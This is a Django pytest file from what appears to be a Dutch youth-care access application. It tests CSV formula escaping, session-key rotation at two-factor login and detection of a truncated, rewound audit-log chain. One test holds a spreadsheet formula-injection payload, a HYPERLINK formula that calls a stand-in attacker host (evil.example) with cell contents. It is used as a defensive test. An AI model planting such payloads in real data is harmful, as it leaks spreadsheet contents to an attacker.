"""Issue 11, findings 7 and 8 (access app): the privacy officer's CSV cannot carry a formula, the
session key changes at the second factor, and `auditlog verify` detects the removal of the last
entries together with a rewound chain head, given a head or count kept outside the database."""

import csv
import io

import pytest
from django.contrib.sessions.models import Session
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test import Client
from django.urls import reverse
from django_otp.oath import totp
from django_otp.plugins.otp_totp.models import TOTPDevice

from ketenzicht.access import audit
from ketenzicht.access.models import AccessLogEntry, ChainHead

pytestmark = pytest.mark.django_db
PASSWORD = "Wachtwoord-123-abc"


@pytest.fixture
def other_team_worker(dataset, make_user):
    """A jeugdzorgwerker of GI-JBW in another team than Y-1's: must break the glass."""
    from ketenzicht.reference.models import Team, Worker

    team = Team.objects.create(
        external_id="T-DH2",
        organisation_id=Team.objects.get(external_id="T-DH1").organisation_id,
        name="Team Den Haag Noord",
        cluster="Haaglanden",
    )
    Worker.objects.filter(external_id="W-2").update(team=team)
    return make_user("W-2")


def test_break_the_glass_reason_cannot_become_a_formula_in_the_csv(
    other_team_worker, role_users, login, client
):
    reason = '=HYPERLINK("https://evil.example/?d="&A1;"klik")  -- collega ziek'
    login(other_team_worker)
    client.post(reverse("web:break_glass", args=["Y-1"]), {"reason": reason})
    client.logout()
    login(role_users["privacy_officer"])
    export = client.get(
        reverse("access:access_log"), {"username": other_team_worker.username, "formaat": "csv"}
    )
    rows = list(csv.reader(io.StringIO(export.content.decode()), delimiter=";"))
    reasons = [row[9] for row in rows[1:]]
    assert reasons and all(r == "'" + reason for r in reasons), reasons


def test_session_key_changes_at_the_second_factor(role_users):
    user = role_users["teamleider"]
    device = TOTPDevice.objects.create(user=user, confirmed=True)
    client = Client()
    client.post(reverse("login"), {"username": user.username, "password": PASSWORD})
    before = client.session.session_key
    assert before
    done = client.post(reverse("access:two_factor"), {"token": f"{totp(device.bin_key):06d}"})
    assert done.status_code == 302
    after = client.session.session_key
    assert after != before
    # The id known before the second factor no longer opens anything.
    assert not Session.objects.filter(session_key=before).exists()
    stale = Client()
    stale.cookies["sessionid"] = before
    response = stale.get(reverse("web:case", args=["Y-1"]))
    assert response.status_code == 302 and "inloggen" in response["Location"]


# --------------------------------------------------------------------------- auditlog verify


def _entries(n):
    return [
        audit.Access(
            username=f"u{i}",
            user_id=i,
            role="Teamleider",
            organisation="GI-JBW",
            youth_external_id=f"Y-{i}",
            action="view",
            subject="dossier",
        )
        for i in range(n)
    ]


def _truncate_and_rewind(keep: int):
    """Someone with database rights removes the last entries and rewinds the chain head (the
    append-only trigger refuses UPDATE, not DELETE)."""
    last = AccessLogEntry.objects.get(seq=keep)
    with connection.cursor() as cur:
        cur.execute("DELETE FROM access_accesslogentry WHERE seq > %s", [keep])
    ChainHead.objects.filter(id=1).update(seq=keep, hash=last.hash)


def _head(capsys) -> str:
    call_command("auditlog", "head")
    return capsys.readouterr().out.strip()


def test_verify_with_the_kept_head_detects_truncation_with_a_rewound_head(db, capsys):
    audit.append(_entries(6))
    kept = _head(capsys)
    assert kept == f"6:{AccessLogEntry.objects.get(seq=6).hash}"
    call_command("auditlog", "verify", "--expect-head", kept, "--expect-count", "6")
    assert "Toegangslog intact en de bewaarde kop: 6 regels" in capsys.readouterr().out

    _truncate_and_rewind(4)
    # The chain alone cannot see it (this is why the head is kept outside).
    assert audit.verify() == []
    with pytest.raises(CommandError, match="NIET intact"):
        call_command("auditlog", "verify", "--expect-head", kept)
    assert "de keten is teruggezet" in capsys.readouterr().err
    with pytest.raises(CommandError, match="NIET intact"):
        call_command("auditlog", "verify", "--expect-count", "6")
    assert "het log heeft 4 regels, maar er waren er al 6" in capsys.readouterr().err


def test_verify_with_the_kept_head_detects_a_rewritten_tail(db, capsys):
    audit.append(_entries(6))
    kept = _head(capsys)
    _truncate_and_rewind(4)
    audit.append(_entries(2))  # the tail written again: six entries, a valid chain, other hashes
    assert audit.verify() == []
    with pytest.raises(CommandError, match="NIET intact"):
        call_command("auditlog", "verify", "--expect-head", kept.replace(":", " "))
    assert "regel 6 heeft een andere hash dan de bewaarde kop" in capsys.readouterr().err


def test_verify_with_an_older_head_accepts_later_entries(db, capsys):
    audit.append(_entries(3))
    kept = _head(capsys)
    audit.append(_entries(3))
    call_command("auditlog", "verify", "--expect-head", kept, "--expect-count", "3")
    assert "intact" in capsys.readouterr().out


def test_verify_refuses_a_malformed_head(db):
    with pytest.raises(CommandError, match="VOLGNUMMER:HASH"):
        call_command("auditlog", "verify", "--expect-head", "12:nietshex")
